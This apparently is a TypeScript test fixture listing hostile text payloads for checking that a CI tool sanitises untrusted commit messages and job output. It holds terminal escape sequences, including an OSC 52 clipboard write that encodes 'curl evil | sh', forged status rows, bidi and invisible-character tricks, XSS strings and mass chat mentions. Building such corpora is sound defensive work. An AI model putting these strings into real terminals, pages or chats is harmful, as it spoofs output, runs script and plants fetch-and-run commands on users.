// Text an attacker with push rights (or a webhook's sender, or a careless operator) can put where
// the follower quotes it: a commit message an adapter echoes, a job's output, a ref name, a reason.
// By class; each surface's test sends every payload through and checks the bytes that arrive.

export interface Payload {
  cls: string;
  name: string;
  text: string;
}

const ESC = '\x1b';
const of = (cls: string, cases: Record<string, string>): Payload[] =>
  Object.entries(cases).map(([name, text]) => ({ cls, name, text: `before ${text} after` }));

export const UNTRUSTED_CORPUS: Payload[] = [
  ...of('terminal control', {
    'CSI clear screen': `${ESC}[2J${ESC}[H`,
    'CSI colour': `${ESC}[31mred${ESC}[0m`,
    'CSI cursor up and erase line': `${ESC}[1A${ESC}[2K`,
    'OSC window title (BEL)': `${ESC}]0;pwned${'\x07'}`,
    'OSC window title (ST)': `${ESC}]2;pwned${ESC}\\`,
    'OSC 8 hyperlink': `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`,
    'OSC 52 clipboard write': `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${'\x07'}`,
    DCS: `${ESC}Pq#0;2;0;0;0${ESC}\\`,
    'full reset': `${ESC}c`,
    'C1 CSI (U+009B)': '\u009b31mred',
    'C1 OSC (U+009D)': '\u009d0;title\u009c',
    'C1 NEL (U+0085)': 'x\u0085y',
    'backspace overwrite': 'Failed\b\b\b\b\b\bOK    ',
    'carriage return overwrite': 'Failed\rSucceeded',
    bell: '\x07\x07',
    NUL: 'a\x00b',
    DEL: 'a\x7fb',
    'vertical tab and form feed': 'a\x0bb\x0cc',
    tab: 'a\tb',
  }),
  ...of('newline forgery', {
    'LF with a fake row': '\n2026-12-03 12:00:00Z   ClosingOut   Succeeded   0123456789ab   ClosedOut   all good',
    'CRLF with a fake row': '\r\nhwlab-jd01-v03   Succeeded',
    'line separator (U+2028)': 'a\u2028fake line',
    'paragraph separator (U+2029)': 'a\u2029fake paragraph',
    'many newlines': '\n\n\n\n\nscrolled away',
    'CR with a fake row': '\rhwlab-jd01-v03   Succeeded',
    'NEL with a fake row': '\u0085hwlab-jd01-v03   Succeeded',
    'form feed with a fake row': '\fhwlab-jd01-v03   Succeeded',
  }),
  ...of('bidi', {
    RLO: '\u202etxt.exe',
    LRO: '\u202dabc',
    'RLE/LRE/PDF': '\u202b\u202aabc\u202c',
    isolates: '\u2066\u2067\u2068abc\u2069',
    marks: '\u200e\u200f\u061c',
    'trojan source': 'access = "user\u202e \u2066// check admin\u2069 \u2066"',
  }),
  ...of('invisible', {
    'zero-width space, joiners': 'a\u200bb\u200cc\u200dd',
    'word joiner, invisible operators': 'a\u2060b\u2062c\u2064d',
    BOM: '\ufeffhidden',
    'soft hyphen': 'ad\u00admin',
    'Mongolian vowel separator': 'a\u180eb',
    'Unicode tags (ASCII smuggling)': '\u{e0001}\u{e0049}\u{e0047}\u{e004e}\u{e004f}\u{e0052}\u{e0045}\u{e007f}',
    'variation selectors supplement': 'a\u{e0100}\u{e01ef}b',
    'Hangul fillers': '\u3164\u115f\u1160\uffa0',
    'lone surrogate': 'a\ud800b',
  }),
  ...of('markdown and HTML', {
    image: '![pixel](https://evil.example/track.png)',
    'inline link hiding its target': '[https://ci.example/job/1](https://evil.example/)',
    'javascript: link': '[details](javascript:alert(document.domain))',
    'reference link': '[docs][x]\n\n[x]: https://evil.example/',
    autolink: '<https://evil.example/>',
    'email autolink': '<root@evil.example>',
    'raw HTML image': '<img src=x onerror=alert(1)>',
    'raw HTML script': '<script>alert(1)</script>',
    'raw HTML anchor': '<a href="javascript:alert(1)">ok</a>',
    'HTML comment': '<!-- hidden -->',
    entity: '&lt;b&gt;&#x3C;i&#x3E;&amp;',
    'backtick breakout': '` **bold** `',
    'double backtick breakout': '`` [x](https://evil.example/) ``',
    'fake status line': '**Succeeded** - `ClosedOut` since now',
    heading: '\n# Succeeded',
    'quote and list': '\n> quoted\n- item\n1. item',
    'setext underline': '\n===',
    table: '\n| a | b |\n|---|---|',
    'hard break': 'two spaces  \nnext',
    emphasis: '*a* _b_ ~~c~~',
  }),
  ...of('chat markup', {
    'Slack channel mention': '<!channel>',
    'Slack here and everyone': '<!here> <!everyone>',
    'Slack user and channel': '<@U012AB3CD> <#C123ABC456>',
    'Slack link with hidden target': '<https://evil.example/|https://ci.example/job/1>',
    'bare mentions': '@here @channel @everyone @all',
    'Google Chat mention': '<users/all>',
    'Discord user mention': '<@123456789012345678>',
    'markdown link': '[open](https://evil.example/)',
    'Slack formatting': '*bold* _it_ ~strike~ `code`',
  }),
];

/** One payload of each class, for the slower end-to-end surfaces. */
export const ONE_OF_EACH = [...new Map(UNTRUSTED_CORPUS.map((p) => [p.cls, p])).values()];

/** Every payload of the corpus in one string (a single message that tries them all). */
export const ALL_AT_ONCE = UNTRUSTED_CORPUS.map((p) => p.text).join(' | ');

/**
 * One message that carries a payload of every class and the worst of each (under the 500
 * characters an adapter's message keeps), for surfaces reached end to end.
 */
export const SURFACE_PAYLOAD = [
  'CSI clear screen',
  'OSC window title (BEL)',
  'OSC 8 hyperlink',
  'C1 CSI (U+009B)',
  'carriage return overwrite',
  'LF with a fake row',
  'line separator (U+2028)',
  'RLO',
  'zero-width space, joiners',
  'Unicode tags (ASCII smuggling)',
  'image',
  'javascript: link',
  'raw HTML image',
  'backtick breakout',
  'Slack channel mention',
  'Slack link with hidden target',
  'bare mentions',
]
  .map((name) => UNTRUSTED_CORPUS.find((p) => p.name === name)!.text.slice('before '.length, -' after'.length))
  .join(' | ');

/**
 * Each code point of the corpus that is not printable ASCII: none may arrive raw on a surface meant
 * for reading. Line feeds and tabs are the layout of multi-line output (rows, a page's DOM text), so
 * they are left out here; that a value's line break starts no row is checked by counting rows.
 */
export const HOSTILE_CODE_POINTS = new Set(
  UNTRUSTED_CORPUS.flatMap((p) => Array.from(p.text)).filter((ch) => !/^[\x20-\x7e\n\t]$/.test(ch)),
);

/** The hostile characters found in `text`, as U+ code points (empty when it is inert). */
export const hostileIn = (text: string): string[] =>
  [...new Set(Array.from(text).filter((ch) => HOSTILE_CODE_POINTS.has(ch)))].map(
    (ch) => `U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`,
  );
